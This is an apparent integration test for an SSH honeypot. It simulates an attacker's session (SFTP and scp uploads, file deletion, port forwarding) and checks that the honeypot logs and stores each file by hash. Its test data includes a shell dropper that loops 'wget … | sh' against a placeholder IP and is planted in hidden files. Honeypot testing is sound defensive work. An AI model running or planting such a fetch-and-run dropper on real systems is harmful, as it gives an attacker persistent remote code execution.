"""Issue 4's "done means", tried as a new user would: one attacker session on the Debian image
uploads a file over SFTP, writes a dropper to /root and copies it to /tmp, deletes a file of the
image and tries `ssh -L`-style forwarding; a second session uploads with legacy `scp -O`.
Afterwards the events and the artifact store hold all of it, with hashes of the originals."""
import hashlib
import os
import socket
import stat
import subprocess

import paramiko

from hermes_itest.config import DEBIAN_IMAGE
from hermes_itest.ssh_client import ssh_argv

PASSWORD = "toor"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def by_id(events: list[dict], eventid: str) -> list[dict]:
    return [e for e in events if e.get("eventid") == eventid]


def one_file_event(events: list[dict], eventid: str, filename: str) -> dict:
    found = [e for e in by_id(events, eventid) if e.get("filename") == filename]
    assert len(found) == 1, (eventid, filename, by_id(events, eventid))
    return found[0]


def assert_in_store(server, event: dict, data: bytes) -> None:
    assert event["shasum"] == sha(data) and event["size"] == len(data), event
    stored = server.artifacts_dir / event["shasum"]
    assert stored.read_bytes() == data
    assert stat.S_IMODE(stored.stat().st_mode) == 0o440  # inert: never executable


def run_exec(client: paramiko.SSHClient, command: str) -> int:
    _, stdout, _ = client.exec_command(command, timeout=60)
    return stdout.channel.recv_exit_status()


def test_a_session_leaves_everything_in_events_and_store(hermes_server, tmp_path):
    server = hermes_server(overrides={"container_pool": {"image": DEBIAN_IMAGE}})
    uploaded = os.urandom(200_000) + b"\x7fELF-not-really"
    dropper = b"#!/bin/sh\nwhile :; do wget -q http://198.51.100.7/x -O- | sh; sleep 60; done\n"
    (tmp_path / "kit.bin").write_bytes(uploaded)

    known = server.session_ids()
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect("127.0.0.1", port=server.port, username="root", password=PASSWORD,
                   allow_agent=False, look_for_keys=False, timeout=30)
    try:
        sftp = client.open_sftp()
        sftp.put(str(tmp_path / "kit.bin"), "/root/kit.bin")
        sftp.close()
        octal = "".join(f"\\{b:03o}" for b in dropper)
        assert run_exec(client, f"printf '{octal}' > /root/.cache.sh && cp /root/.cache.sh /tmp/.x "
                                f"&& chmod +x /tmp/.x && rm -f /etc/issue.net") == 0
        forward = client.get_transport().open_channel(
            "direct-tcpip", ("10.20.30.40", 3306), ("127.0.0.1", 53535), timeout=30)
        forward.sendall(b"\x4a\x00\x00\x00\x0aSELECT 1")
        forward.close()
    finally:
        client.close()
    session = server.wait_for_new_session(known)
    server.wait_for_event(session, "hermes.session.closed", timeout=120)
    events = server.events(session)

    upload = one_file_event(events, "hermes.session.file_upload", "/root/kit.bin")
    assert upload["shasum"] == sha(uploaded) and upload["size"] == len(uploaded), upload
    assert_in_store(server, one_file_event(events, "hermes.session.file_created", "/root/kit.bin"), uploaded)
    assert_in_store(server, one_file_event(events, "hermes.session.file_created", "/root/.cache.sh"), dropper)
    assert_in_store(server, one_file_event(events, "hermes.session.file_created", "/tmp/.x"), dropper)
    one_file_event(events, "hermes.session.file_deleted", "/etc/issue.net")

    request = by_id(events, "hermes.direct-tcpip.request")
    assert [(r["dst_ip"], r["dst_port"], r["orig_ip"], r["orig_port"]) for r in request] == \
        [("10.20.30.40", 3306, "127.0.0.1", 53535)]
    data = by_id(events, "hermes.direct-tcpip.data")
    assert len(data) == 1 and data[0]["data"] == "J\\x00\\x00\\x00\\nSELECT 1", data

    # A second session: legacy SCP (as old clients and many bots speak it).
    scp_payload = os.urandom(4096)
    (tmp_path / "scp.bin").write_bytes(scp_payload)
    argv = ssh_argv(server.port, password=PASSWORD)  # sshpass -p PW ssh OPTIONS -p PORT OPTIONS root@host
    ssh_at, port_at = argv.index("ssh"), argv.index(str(server.port)) - 1
    prefix = argv[:ssh_at]
    options = argv[ssh_at + 1:port_at] + argv[port_at + 2:-1]
    known = server.session_ids()
    result = subprocess.run(prefix + ["scp", "-O", *options, "-P", str(server.port),
                                      str(tmp_path / "scp.bin"), "root@127.0.0.1:/var/tmp/scp.bin"],
                            capture_output=True, timeout=120, stdin=subprocess.DEVNULL)
    assert result.returncode == 0, result.stderr[-2000:]
    session = server.wait_for_new_session(known)
    server.wait_for_event(session, "hermes.session.closed", timeout=120)
    events = server.events(session)
    scp_upload = [e for e in by_id(events, "hermes.session.file_upload") if e.get("via") == "scp"]
    assert [(e["shasum"], e["size"]) for e in scp_upload] == [(sha(scp_payload), len(scp_payload))]
    assert_in_store(server, one_file_event(events, "hermes.session.file_created", "/var/tmp/scp.bin"),
                    scp_payload)
